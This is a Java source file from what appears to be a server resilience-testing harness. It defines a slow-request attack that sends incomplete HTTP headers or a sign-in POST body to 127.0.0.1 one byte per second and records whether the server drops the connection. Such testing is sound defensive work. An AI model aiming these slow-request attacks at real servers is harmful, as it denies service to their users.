package io.millrace.hostile;

import java.io.IOException;
import java.time.Duration;

/** Request that is never complete: one byte per second, for two minutes or until the server closes the connection. */
enum Trickle implements Attack {
    HEADERS("GET /api/v1/flags HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: "),
    BODY("POST /api/v1/authentication/sign-in HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\n"
            + "Content-Length: 100000\r\n\r\n{\"email\":\"");

    private static final Duration PAUSE = Duration.ofSeconds(1);
    private static final int BYTES_MAX = 120;

    private final String begin;

    Trickle(String begin) {
        this.begin = begin;
    }

    @Override
    public void once(AttackTarget target, AnswerCounts answers) throws IOException, InterruptedException {
        var since = System.nanoTime();
        try (var wire = Wire.open(target.port())) {
            wire.send(begin);
            for (var sent = 0; sent < BYTES_MAX; sent++) {
                target.pause(PAUSE);
                if (target.isOver()) {
                    return;
                }
                if (!wire.isTaken(new byte[] {'x'})) {
                    answers.add("trickling " + LargeBody.name(this), wire.status(), since);
                    return;
                }
            }
            answers.add("trickling " + LargeBody.name(this) + ", borne", AnswerCounts.NONE, since);
        }
    }
}
